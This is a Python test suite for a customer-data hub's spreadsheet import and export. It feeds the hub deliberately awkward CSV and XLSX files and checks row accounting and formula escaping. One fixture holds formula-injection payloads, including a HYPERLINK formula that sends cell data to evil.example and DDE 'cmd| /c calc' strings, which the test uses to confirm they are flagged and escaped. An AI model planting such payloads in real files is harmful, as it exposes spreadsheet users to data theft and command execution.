"""`hub import` as a user runs it, on SQLite and PostgreSQL: a folder of hostile spreadsheets (GBK, Big5,
UTF-16, headerless, duplicate headers, broken quotes, a 10 MB cell, formula names, merged XLSX cells …),
each imported with ``--mapping customer_file``: no row lost without a reason, the counts add up (printed and
stored), and every export the hub writes escapes formulas."""

from __future__ import annotations

import base64
import csv
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from hub.standardise.text import is_formula_like
from hub.store import Store, file_import, landing, quarantine, staged_record

HUB = str(Path(sys.executable).parent / "hub")
SUMMARY = re.compile(r"(\d+) rows read = (\d+) staged \+ (\d+) quarantined \+ (\d+) skipped")
HEADER = ["record_id", "full_name", "email", "phone", "birth_date", "gender", "city", "notes"]
ROWS = [
    ["C-1", "陳偉", "Chen.Wei@Example.com", "+86 138-0013-8000", "1985年3月7日", "男", "南京", "vip"],
    ["C-2", "WEI CHEN", "", "１３８００１３８０００", "1985/3/7", "M", "Nanjing", ""],
    ["C-3", "", "", "not a phone", "", "", "", "no name, no contact"],
    ["C-4", "Robert Smith", "bob@example.com", "", "1985-02-30", "", "London", "impossible date"],
    ["C-1", "Duplicate Key", "dup@example.com", "", "", "", "", "same id as row 2"],
]
CN = [  # plain customers as a Chinese office sends them
    ["K-1", "陈伟", "chen.wei@example.com", "13800138000", "1985-03-07", "男", "南京市", ""],
    ["K-2", "王芳", "wang.fang@example.com", "+86 139 1234 5678", "1990-11-02", "女", "上海市", "老客户"],
    ["K-3", "李娜", "", "137-0013-7000", "", "女", "北京市", ""],
    ["K-4", "张伟", "zhang.wei@example.com", "", "", "男", "广州市", "𠮷野家"],  # 𠮷: GB18030 only, not GBK
]


def _hub(cwd: Path, db: str, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([HUB, *args], cwd=cwd, capture_output=True, text=True, timeout=600,
                          env={**os.environ, "HUB_DATABASE_URL": db})


def _import(cwd: Path, db: str, name: str, *extra: str, source: str | None = None) -> subprocess.CompletedProcess:
    return _hub(cwd, db, "import", str(cwd / name), "--source", source or Path(name).stem, "--mapping",
                "customer_file", *extra)


def _csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    out = []
    for r in rows:
        cells = []
        for c in r:
            if any(ch in c for ch in (delimiter, '"', "\n", "\r")):
                c = '"' + c.replace('"', '""') + '"'
            cells.append(c)
        out.append(delimiter.join(cells))
    return newline.join(out) + newline


def _write_csv(path: Path) -> None:
    path.write_text(_csv_text([HEADER, *ROWS]), encoding="utf-8")


def _counts(proc: subprocess.CompletedProcess) -> tuple[int, int, int, int]:
    m = SUMMARY.search(proc.stdout)
    assert m, proc.stdout + proc.stderr
    return tuple(int(x) for x in m.groups())  # type: ignore[return-value]


# -- the folder --------------------------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    rows: int  # data rows a person sees in the file
    staged: int
    quarantined: int
    skipped: int
    exit: int
    args: tuple[str, ...] = ()
    says: tuple[str, ...] = ()  # the report mentions these


def _xlsx_with_cached_formula(path: Path) -> None:
    """A workbook as Excel saves it: a formula cell holding its cached value (openpyxl writes none, so the
    value is put into the sheet XML the way Excel stores it)."""
    book = Workbook()
    ws = book.active
    ws.title = "客户"
    ws.append(["record_id", "full_name", "company", "phone", "birth_date", "city"])
    ws.append(["X-1", "陈伟", "华为技术有限公司", 13800138000, datetime(1985, 3, 7), "南京"])
    ws.append(["X-2", "王芳", None, 13912345678.0, datetime(1990, 11, 2), "上海"])
    ws.append(["X-3", "=\"李\"&\"娜\"", None, "+86 137 0013 7000", None, "北京"])  # formula, cached 李娜
    ws.merge_cells("C2:C3")  # one company over two rows
    more = book.create_sheet("More")
    more.append(["customer_id", "full_name", "phone", "phone"])
    more.append(["X-4", "张伟", "13600136000", "020-12345678"])
    book.create_sheet("Empty")
    book.save(path)
    with zipfile.ZipFile(path) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet, n = re.subn(r'(<c r="B4"[^>]*>)<f>(.*?)</f><v\s*/?>(</v>)?', r'<c r="B4" t="str"><f>\2</f><v>李娜</v>',
                       sheet)
    assert n == 1, sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)


def hostile_folder(d: Path) -> list[Case]:
    """Write the folder; return what each file must give."""
    cn = _csv_text([HEADER, *CN], newline="\r\n")
    (d / "gb18030_excel.csv").write_bytes(cn.encode("gb18030"))
    (d / "gbk_wps.csv").write_bytes(_csv_text([HEADER, *CN[:3]]).encode("gbk"))
    tw = [["T-1", "陳大文", "chan@example.com", "0912345678", "", "", "臺北市", ""],
          ["T-2", "林美玲", "lin@example.com", "0922333444", "", "", "高雄市", "老客戶"],
          ["T-3", "張志明", "cheung@example.com", "0933444555", "", "", "臺中市", ""]]
    (d / "big5.csv").write_bytes(_csv_text([HEADER, *tw]).encode("big5"))
    # Excel's "Unicode Text": UTF-16 LE with a BOM, tab-separated
    (d / "utf16_excel.txt").write_bytes(_csv_text([HEADER, *CN], "\t", "\r\n").encode("utf-16"))
    (d / "utf16be.csv").write_bytes(codecs_bom_be() + _csv_text([HEADER, *CN[:2]]).encode("utf-16-be"))
    (d / "bom_semicolon.csv").write_bytes(_csv_text([HEADER, *CN], ";").encode("utf-8-sig"))
    (d / "pipes.csv").write_text(_csv_text([HEADER, *CN[:2]], "|"), encoding="utf-8")
    (d / "headerless.csv").write_text(_csv_text(CN), encoding="utf-8")
    (d / "dup_headers.csv").write_text(
        "record_id,full_name,phone,phone,,email,email\n"
        "D-1,陈伟,13800138000,13912345678,remember birthday,chen@example.com,wei@example.org\n"
        "D-2,王芳,,+86 137 0013 7000,,,\n", encoding="utf-8")
    (d / "broken_quotes.csv").write_text(
        _csv_text([HEADER]) + 'Q-1,"陈伟,chen@example.com,13800138000,,,南京,\n'
        + _csv_text(CN[1:]) + 'Q-5,"Room 5, Building 3\nZhongshan Road",q5@example.com,13500135000,,,南京,"multi\nline"\n',
        encoding="utf-8")
    big = [["B-1", "陈伟", "chen@example.com", "13800138000", "", "", "南京", "x" * 10_000_000],
           *CN[1:]]
    (d / "ten_mb_cell.csv").write_text(_csv_text([HEADER, *big]), encoding="utf-8")
    formulas = [
        ["F-1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "f1@example.com", "+86 138-0013-8000", "", "", "南京", ""],
        ["F-2", "-2+3+cmd| /c calc'!A0", "f2@example.com", "13912345678", "", "", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
        ["F-3", "@陈伟", "=1+1@example.com", "+8613700137000", "", "", "+北京", "\t=tab"],
        ["F-4", "王芳", "wang@example.com", "-13800138000", "", "", "上海", "-"],
    ]
    (d / "formula_names.csv").write_text(_csv_text([HEADER, *formulas]), encoding="utf-8")
    mixed = _csv_text([HEADER, *CN[:2]]).encode() + _csv_text([CN[2]]).encode("gbk") + _csv_text([CN[3]]).encode()
    (d / "utf8_with_gbk_row.csv").write_bytes(mixed)
    gbk_utf8 = (_csv_text([HEADER, *CN[:3]]).encode("gbk")
                + _csv_text([["K-9", "陈伟", "k9@example.com", "13800138009", "", "", "南京", ""]]).encode())
    (d / "gbk_with_utf8_row.csv").write_bytes(gbk_utf8)
    (d / "ragged_blank_repeats.csv").write_text(
        _csv_text([HEADER, CN[0], [], ["K-2", "王芳", "wang.fang@example.com", "13912345678"], HEADER,
                   CN[2] + ["extra", "cells"], CN[0], [], []]), encoding="utf-8")
    (d / "keyless.csv").write_text(_csv_text([[h for h in HEADER if h != "record_id"]]
                                             + [r[1:] for r in CN]), encoding="utf-8")
    (d / "control_chars.csv").write_text(
        _csv_text([HEADER, ["Z-1", "陈\u200f伟\u202e", "z1@example.com", "13800138000", "", "", "南\x07京", "😀\x00"],
                   ["Z-2", "\u05d3\u05d5\u05d3 \u05db\u05d4\u05df", "z2@example.com", "+972 50-123-4567", "", "", "תל אביב", ""]]),
        encoding="utf-8")
    _xlsx_with_cached_formula(d / "workbook.xlsx")
    one = Workbook()
    one.active.append(["陈伟", "13800138000", "南京"])
    one.save(d / "one_row_no_header.xlsx")
    return [
        Case("gb18030_excel.csv", 4, 4, 0, 0, 0, says=("GB18030",)),
        Case("gbk_wps.csv", 3, 3, 0, 0, 0, says=("GB18030",)),
        Case("big5.csv", 3, 3, 0, 0, 0, says=("CP950",)),
        Case("utf16_excel.txt", 4, 4, 0, 0, 0, says=("UTF-16-LE (byte-order mark)", "delimiter '\\t'")),
        Case("utf16be.csv", 2, 2, 0, 0, 0, says=("UTF-16-BE",)),
        Case("bom_semicolon.csv", 4, 4, 0, 0, 0, says=("UTF-8 (byte-order mark)", "delimiter ';'")),
        Case("pipes.csv", 2, 2, 0, 0, 0, says=("delimiter '|'",)),
        Case("headerless.csv", 4, 4, 0, 0, 0, args=("--no-header", "--columns", ",".join(HEADER))),
        Case("dup_headers.csv", 2, 2, 0, 0, 0, says=("'phone.2'", "'email.2'", "column 5 has no name")),
        Case("broken_quotes.csv", 5, 5, 0, 0, 1, says=("line 2: unterminated",)),
        Case("ten_mb_cell.csv", 4, 3, 1, 0, 1, says=("cell.oversized (notes: 10,000,000 characters",)),
        Case("formula_names.csv", 4, 4, 0, 0, 0, says=("3 row(s) hold values a spreadsheet would run as formulas",)),
        Case("utf8_with_gbk_row.csv", 4, 3, 1, 0, 1, says=("row 4 (K-3): encoding.undecodable",)),
        Case("gbk_with_utf8_row.csv", 4, 3, 1, 0, 1, says=("GB18030", "row 5 (K-9): encoding.mixed")),
        Case("ragged_blank_repeats.csv", 6, 3, 0, 3, 1,
             says=("1 empty row", "1 repeated header row", "1 exact repeat", "line 6: 10 cells")),
        Case("keyless.csv", 4, 4, 0, 0, 0),
        Case("control_chars.csv", 2, 2, 0, 0, 1, says=("NUL characters removed",)),
        Case("workbook.xlsx", 4, 4, 0, 0, 0, says=("merged cell range", "sheet 'Empty' is empty", "'phone.2'")),
    ]


def codecs_bom_be() -> bytes:
    return b"\xfe\xff"


def test_hostile_folder(tmp_path: Path, store_url: str) -> None:
    folder = tmp_path / "hostile"
    folder.mkdir()
    cases = hostile_folder(folder)
    table = []
    for case in cases:
        proc = _import(folder, store_url, case.name, *case.args)
        assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr
        rows, staged, held, skipped = _counts(proc)
        table.append((case.name, rows, staged, held, skipped, proc.returncode))
        assert (rows, staged, held, skipped, proc.returncode) == (
            case.rows, case.staged, case.quarantined, case.skipped, case.exit), f"{case.name}:\n{proc.stdout}"
        for text in case.says:
            assert text in proc.stdout, f"{case.name}: {text!r} not in\n{proc.stdout}"
    print("\n".join(" | ".join(map(str, r)) for r in table))

    store = Store(store_url)
    try:
        with store.engine.connect() as conn:
            runs = {r.file_name: r for r in conn.execute(sa.select(file_import))}
            staged = {r.record_key: r for r in conn.execute(sa.select(staged_record))}
            held = {(r.source, r.source_id): r for r in conn.execute(sa.select(quarantine))}
            raw = {(r.source, r.source_id): r.payload for r in conn.execute(sa.select(landing))}
        # printed and stored: the same accounting
        for name, rows, n_staged, n_held, n_skipped, code in table:
            run = runs[name]
            assert (run.rows_read, run.staged, run.quarantined, run.skipped, run.exit_code) == (
                rows, n_staged, n_held, n_skipped, code)
        # encodings decoded, not mangled
        for source in ("gb18030_excel", "utf16_excel", "bom_semicolon"):
            assert staged[f"{source}:K-4"].record["full_name"] == "张伟"
        assert staged["big5:T-1"].record["full_name"] == "陳大文"
        assert staged["gbk_wps:K-2"].record["full_name"] == "王芳"
        # headerless, with the columns named: the first customer is a customer, not a header
        assert staged["headerless:K-1"].record["full_name"] == "陈伟"
        # duplicate headers: both phones and both e-mails are used
        d1 = staged["dup_headers:D-1"].record
        assert {p["e164"] for p in d1["phones"]} == {"+8613800138000", "+8613912345678"}
        assert d1["emails"] == ["chen@example.com", "wei@example.org"]
        # the unterminated quote did not swallow the rows after it; the legitimate multi-line value is one cell
        assert {f"broken_quotes:{k}" for k in ("Q-1", "K-2", "K-3", "K-4", "Q-5")} <= set(staged)
        q5 = raw[("broken_quotes", "Q-5")]
        assert (q5["full_name"], q5["notes"]) == ("Room 5, Building 3\nZhongshan Road", "multi\nline")
        # the 10 MB cell quarantined its row only, with its size and digest
        big = next(r for (s, _), r in held.items() if s == "ten_mb_cell")
        assert big.reasons == ["cell.oversized"] and big.detail["columns"]["notes"]["length"] == 10_000_000
        assert {"ten_mb_cell:K-2", "ten_mb_cell:K-3", "ten_mb_cell:K-4"} <= set(staged)
        # undecodable / mixed rows: raw bytes kept exactly
        bad = next(r for (s, _), r in held.items() if s == "utf8_with_gbk_row")
        assert base64.b64decode(bad.detail["raw_base64"]) == _csv_text([CN[2]]).encode("gbk")
        mixed = next(r for (s, _), r in held.items() if s == "gbk_with_utf8_row")
        assert mixed.reasons == ["encoding.mixed"] and mixed.payload["full_name"] == "陈伟"
        # formulas: flagged, phone numbers not
        flags = {k: v.quality_flags for k, v in staged.items() if k.startswith("formula_names:")}
        assert "name:text.formula_like" in flags["formula_names:F-1"]
        assert "name:text.formula_like" in flags["formula_names:F-2"]
        assert "addresses:text.formula_like" in flags["formula_names:F-2"]
        assert not any(f.startswith("phones:text.formula_like") for fl in flags.values() for f in fl)
        assert staged["formula_names:F-1"].record["phones"][0]["e164"] == "+8613800138000"
        # XLSX: cached formula value, dates, merged company, numbers as phone numbers, second sheet
        x = {k.split(":")[1]: v.record for k, v in staged.items() if k.startswith("workbook:")}
        assert x["X-3"]["full_name"] == "李娜"
        assert x["X-1"]["birth_date"] == "1985-03-07" and x["X-2"]["phones"][0]["e164"] == "+8613912345678"
        assert x["X-2"]["company"] == x["X-1"]["company"] == "华为技术有限公司"
        assert {p["e164"] for p in x["X-4"]["phones"]} == {"+8613600136000", "+862012345678"}
    finally:
        store.dispose()

    # headerless without the options: a clear error, and nothing imported
    proc = _import(folder, store_url, "headerless.csv", source="nothing")
    assert proc.returncode == 2 and "--no-header --columns" in proc.stderr, proc.stderr
    proc = _import(folder, store_url, "one_row_no_header.xlsx", source="nothing")
    assert proc.returncode == 2 and "--no-header --columns" in proc.stderr, proc.stderr
    store = Store(store_url)
    with store.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(landing)
                            .where(landing.c.source == "nothing")).scalar_one() == 0
    store.dispose()

    # a re-sorted keyless file changes nothing; re-importing the hostile files changes nothing
    lines = (folder / "keyless.csv").read_text(encoding="utf-8").splitlines()
    (folder / "keyless.csv").write_text("\n".join([lines[0], *reversed(lines[1:])]) + "\n", encoding="utf-8")
    again = _import(folder, store_url, "keyless.csv")
    assert "landing: 0 new, 0 changed, 4 unchanged" in again.stdout, again.stdout
    again = _import(folder, store_url, "ten_mb_cell.csv")
    assert "landing: 0 new, 0 changed, 3 unchanged" in again.stdout and _counts(again) == (4, 3, 1, 0)
    assert store_count(store_url, quarantine, "ten_mb_cell") == 1

    _exports_escape_formulas(tmp_path, store_url)


def store_count(url: str, table: sa.Table, source: str) -> int:
    store = Store(url)
    try:
        with store.engine.connect() as conn:
            return conn.execute(sa.select(sa.func.count()).select_from(table)
                                .where(table.c.source == source)).scalar_one()
    finally:
        store.dispose()


def _exports_escape_formulas(tmp_path: Path, store_url: str) -> None:
    """Golden records built from the imported files go out through `hub export` as CSV, Excel CSV and XLSX:
    no cell a spreadsheet would run as a formula, the phone numbers as they were, and reading the export
    back gives the same values."""
    from hub.export import golden_frame
    from hub.file_import import read_file
    from hub.golden import build_golden, match_and_cluster

    store = Store(store_url)
    try:
        match_and_cluster(store, mode="full")
        build_golden(store, mode="full")
        frame = golden_frame(store)
    finally:
        store.dispose()
    assert frame["full_name"].map(is_formula_like).any()  # the hostile names reached the golden records
    for name, extra in (("golden.csv", ()), ("golden_excel.csv", ("--excel",)), ("golden.xlsx", ())):
        out = tmp_path / name
        proc = _hub(tmp_path, store_url, "export", "golden", "--out", str(out), *extra)
        assert proc.returncode == 0, proc.stderr
        if name.endswith(".xlsx"):
            sheet = load_workbook(out).active
            cells = [c for row in sheet.iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type == "f"]
            values = [c.value for c in cells if isinstance(c.value, str)]
        else:
            raw = out.read_bytes()
            assert raw.startswith(b"\xef\xbb\xbf") == (name == "golden_excel.csv")
            values = [v for row in csv.reader(raw.decode("utf-8-sig").splitlines()) for v in row]
        assert not [v for v in values if is_formula_like(v)], name
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in values or any(
            v.startswith("'=HYPERLINK") for v in values), name
        assert "+8613800138000" in ";".join(values)  # phones stay usable, unescaped
        # round trip: the export read back is the exported data, formulas included
        back = {r.cells["golden_id"]: r.cells for r in read_file(out, known=frame.columns).rows}
        for rec in frame.to_dict("records"):
            got = back[rec["golden_id"]]
            for col, value in rec.items():
                if value is None or value == "":
                    assert col not in got, (col, got)
                elif isinstance(value, float):
                    assert float(got[col]) == pytest.approx(value)
                else:
                    assert got[col] == str(value), (name, col)


# -- earlier behaviour, kept -------------------------------------------------------------------------------------


def test_csv_import_reports_rows_and_loses_nothing(tmp_path: Path, store_url: str) -> None:
    src = tmp_path / "crm.csv"
    _write_csv(src)
    proc = _hub(tmp_path, store_url, "import", str(src), "--source", "crm", "--mapping", "customer_file")
    assert proc.returncode == 1, proc.stderr  # some rows are in quarantine: the exit code says so
    out = proc.stdout
    assert "row 4 (C-3): " in out and "required.matchable_missing" in out  # no name, contact or id: nobody
    assert "row 6 (C-1): key.duplicate (first at row 2)" in out
    assert _counts(proc) == (5, 3, 2, 0)
    store = Store(store_url)
    with store.engine.connect() as conn:
        landed = conn.execute(sa.select(sa.func.count()).select_from(landing)).scalar_one()
        staged = dict(conn.execute(sa.select(staged_record.c.source_id, staged_record.c.record)).all())
        held = {r.source_id: r.reasons for r in conn.execute(sa.select(quarantine))}
    # five data rows: four landed (one per key), the duplicate kept in quarantine — none dropped
    assert landed == 4
    dup = next(k for k in held if k.startswith("file:C-1#dup-"))
    assert set(staged) | set(held) == {"C-1", "C-2", "C-3", "C-4", dup}
    assert staged["C-1"]["phones"][0]["e164"] == "+8613800138000"
    assert staged["C-2"]["phones"][0]["e164"] == "+8613800138000"
    assert staged["C-1"]["name"]["name_key"] == staged["C-2"]["name"]["name_key"] == "chen wei"
    assert staged["C-4"].get("birth_date") is None  # bad optional field: kept, nulled, flagged
    assert "required.matchable_missing" in held["C-3"]
    store.dispose()

    again = _hub(tmp_path, store_url, "import", str(src), "--source", "crm", "--mapping", "customer_file")
    assert "0 new, 0 changed, 4 unchanged" in again.stdout
    assert _counts(again) == (5, 3, 2, 0)
    # the corrected file clears the duplicate it no longer has
    src.write_text(_csv_text([HEADER, *ROWS[:4]]), encoding="utf-8")
    fixed = _hub(tmp_path, store_url, "import", str(src), "--source", "crm", "--mapping", "customer_file")
    assert _counts(fixed) == (4, 3, 1, 0)
    assert store_count(store_url, quarantine, "crm") == 1


def test_xlsx_import(tmp_path: Path) -> None:
    book = Workbook()
    for row in [HEADER, *ROWS[:2]]:
        book.active.append(row)
    src = tmp_path / "crm.xlsx"
    book.save(src)
    db = f"sqlite:///{tmp_path / 'hub.db'}"
    proc = _hub(tmp_path, db, "import", str(src), "--source", "crm", "--mapping", "customer_file")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "2 rows read = 2 staged + 0 quarantined + 0 skipped; landing: 2 new" in proc.stdout
    proc = _hub(tmp_path, db, "import", str(src), "--source", "crm", "--mapping", "customer_file", "--sheet", "x")
    assert proc.returncode == 2 and "no such sheet" in proc.stderr


def test_unusable_files_and_options_are_clear_errors(tmp_path: Path, monkeypatch, capsys) -> None:
    from hub.cli import main

    db = f"sqlite:///{tmp_path / 'hub.db'}"
    monkeypatch.setenv("HUB_DATABASE_URL", db)
    monkeypatch.chdir(tmp_path)
    cases = {
        "x.xlsx": (b"not a zip", "not a readable XLSX"),
        "x.xls": (b"\xd0\xcf\x11\xe0", "save it as .xlsx or CSV"),
        "empty.csv": (b"", "the file is empty"),
        "x.json": (b"{}", "unsupported file type"),
    }
    # one real subprocess (the exit status as the shell sees it), the rest in-process through the same main()
    (tmp_path / "x.xlsx").write_bytes(b"not a zip")
    proc = _hub(tmp_path, db, "import", "x.xlsx", "--source", "crm", "--mapping", "customer_file")
    assert proc.returncode == 2 and "not a readable XLSX" in proc.stderr and "Traceback" not in proc.stderr
    for name, (data, message) in cases.items():
        (tmp_path / name).write_bytes(data)
        assert main(["import", name, "--source", "crm", "--mapping", "customer_file"]) == 2
        assert message in capsys.readouterr().err, name
    _write_csv(tmp_path / "ok.csv")
    for args, message in (
        (("--mapping", "no_such_mapping"), "no_such_mapping"),
        (("--mapping", "customer_file", "--encoding", "klingon"), "unknown encoding"),
        (("--mapping", "customer_file", "--no-header"), "--no-header needs --columns"),
        (("--mapping", "customer_file", "--key", "nope"), "--key 'nope': no such column"),
        (("--mapping", "customer_file", "--columns", "a,b"), "--columns names 2 columns"),
        (("--mapping", "customer_file", "--sheet", "x"), "--sheet applies to XLSX files"),
    ):
        assert main(["import", "ok.csv", "--source", "crm", *args]) == 2
        assert message in capsys.readouterr().err, args
    assert store_count(db, landing, "crm") == 0  # nothing imported by any of them


def test_forced_encoding_and_renamed_header(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'hub.db'}"
    # a Chinese header, renamed with --columns; the encoding given by hand
    text = _csv_text([["编号", "姓名", "手机", "城市"], ["K-1", "陈伟", "13800138000", "南京"]])
    (tmp_path / "cn.csv").write_bytes(text.encode("gb18030"))
    proc = _hub(tmp_path, db, "import", "cn.csv", "--source", "cn", "--mapping", "customer_file")
    assert proc.returncode == 2 and "--columns" in proc.stderr
    proc = _hub(tmp_path, db, "import", "cn.csv", "--source", "cn", "--mapping", "customer_file",
                "--encoding", "gbk", "--columns", "record_id,full_name,phone,city")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "encoding GBK (forced)" in proc.stdout and _counts(proc) == (1, 1, 0, 0)


def test_sparse_rows_are_customers_flagged_incomplete(tmp_path: Path) -> None:
    """Every row matching can compare is a customer (as `hub dedupe` compares it): a name with a city, with a
    birth date, a name alone (a follower's display name, a name as heard on a call), a caller's number without a
    name — staged, flagged incomplete. Quarantine is for rows the hub cannot use: no name, company, contact or id
    number (a city alone)."""
    src = tmp_path / "social.csv"
    src.write_text(_csv_text([HEADER,
                              ["S-1", "王芳", "", "", "", "女", "上海市", "name and city"],
                              ["S-2", "Robert Smith", "bob@example.com", "", "", "", "", "complete"],
                              ["S-3", "李娜", "", "", "", "", "", "a name only"],
                              ["S-4", "", "", "", "", "", "北京市", "a city only"],
                              ["S-5", "William Willfams", "", "", "19/08/1935", "M", "", "name and birth date"],
                              ["S-6", "Wei YUAN", "", "8615411427015", "", "", "", "a number no carrier has"],
                              ["S-7", "", "", "13800138000", "", "", "", "a caller id"]]),
                   encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'hub.db'}"
    proc = _hub(tmp_path, db, "import", str(src), "--source", "social", "--mapping", "customer_file")
    assert _counts(proc) == (7, 6, 1, 0), proc.stdout
    store = Store(db)
    with store.engine.connect() as conn:
        staged = {r.source_id: r for r in conn.execute(sa.select(staged_record))}
        held = {r.source_id: r.reasons for r in conn.execute(sa.select(quarantine))}
    store.dispose()
    assert set(staged) == {"S-1", "S-2", "S-3", "S-5", "S-6", "S-7"}
    assert {"record:incomplete", "record:contact_missing"} <= set(staged["S-1"].quality_flags)
    assert staged["S-1"].record["addresses"][0]["city"]
    assert not any(f.startswith("record:") for f in staged["S-2"].quality_flags)
    assert {"record:incomplete", "record:reachable_missing"} <= set(staged["S-5"].quality_flags)
    assert staged["S-6"].record["unverified_phones"] == ["8615411427015"] and not staged["S-6"].record["phones"]
    assert {"record:incomplete", "record:identifiable_missing"} <= set(staged["S-3"].quality_flags)
    assert {"record:incomplete", "record:name_missing"} <= set(staged["S-7"].quality_flags)
    assert staged["S-7"].record["phones"][0]["e164"] == "+8613800138000"
    assert held["S-4"] == ["required.matchable_missing"]


def test_a_file_staged_by_two_processes_is_staged_as_by_one(tmp_path: Path, monkeypatch) -> None:
    """`hub import --workers N` (default hub.yaml staging.workers): a large file's new records are mapped and
    standardised in forked workers; the staged rows, the engine rows and standardised values staging keeps with
    each customer included, are those one process stages. A negative number is refused."""
    from hub import file_import, staging
    from hub.dedupe.synthetic import customers

    path = tmp_path / "crm.csv"
    customers(700, seed=9).drop(columns=["entity_id"]).to_csv(path, index=False)
    monkeypatch.setattr(staging, "PARALLEL_TASK_ROWS", 150)  # the file is small: force the forked path
    forks: list[int] = []
    real = staging.fork_map

    def counting(fn, parts, workers, **options):  # noqa: ANN001, ANN202
        forks.append(len(parts))
        return real(fn, parts, workers, **options)

    monkeypatch.setattr(staging, "fork_map", counting)
    states = []
    for workers in (1, 2):
        store = Store(f"sqlite:///{tmp_path / f'w{workers}.db'}")
        try:
            stats = file_import.import_records(store, path, source="crm", mapping="customer_file", workers=workers)
            assert stats.staged > 1000
            with store.engine.connect() as conn:
                cols = [c for c in staged_record.c if c.name not in ("id", "staged_at")]
                states.append(conn.execute(sa.select(*cols).order_by(staged_record.c.record_key)).all())
        finally:
            store.dispose()
        assert bool(forks) == (workers == 2)
    assert states[0] == states[1]
    assert sum(1 for row in states[0] if row.engine_row and row.engine_input) > 1000
    proc = _hub(tmp_path, f"sqlite:///{tmp_path / 'cli.db'}", "import", str(path), "--source", "crm", "--mapping",
                "customer_file", "--workers", "-1")
    assert proc.returncode == 2 and "--workers" in proc.stderr


def test_records_are_staged_when_the_engine_cannot_standardise_them_ahead(tmp_path: Path, monkeypatch,
                                                                          caplog) -> None:
    """The engine rows staging keeps are a head start for the match stage: when making them fails, the records
    are staged without them (the match stage derives them from the JSON, as the same store's match shows) and
    the log names the error's type, not its text (it may quote a value)."""
    from hub import file_import, staging
    from hub.golden import match_and_cluster
    from hub.golden.tables import match_record

    path = tmp_path / "crm.csv"
    path.write_text(_csv_text([HEADER, *CN]), encoding="utf-8")

    def failing(items):  # noqa: ANN001, ANN202
        raise ValueError("cannot standardise 13800138000")

    states = []
    for name, broken in (("ok.db", False), ("broken.db", True)):
        store = Store(f"sqlite:///{tmp_path / name}")
        try:
            with monkeypatch.context() as m:
                if broken:
                    m.setattr(staging, "staged_engine_rows", failing)
                stats = file_import.import_records(store, path, source="crm", mapping="customer_file")
            assert stats.staged == len(CN)
            with store.engine.connect() as conn:
                kept = conn.execute(sa.select(sa.func.count()).where(staged_record.c.engine_row.is_not(None))
                                    ).scalar_one()
            assert kept == (0 if broken else len(CN))
            match_and_cluster(store, {"engine": "dedupe", "workers": 1}, mode="full")
            with store.engine.connect() as conn:
                states.append(conn.execute(sa.select(match_record.c.record_key, match_record.c.cluster_key,
                                                     match_record.c.engine_row)
                                           .order_by(match_record.c.record_key)).all())
        finally:
            store.dispose()
    assert states[0] == states[1]
    assert "ValueError" in caplog.text and "13800138000" not in caplog.text
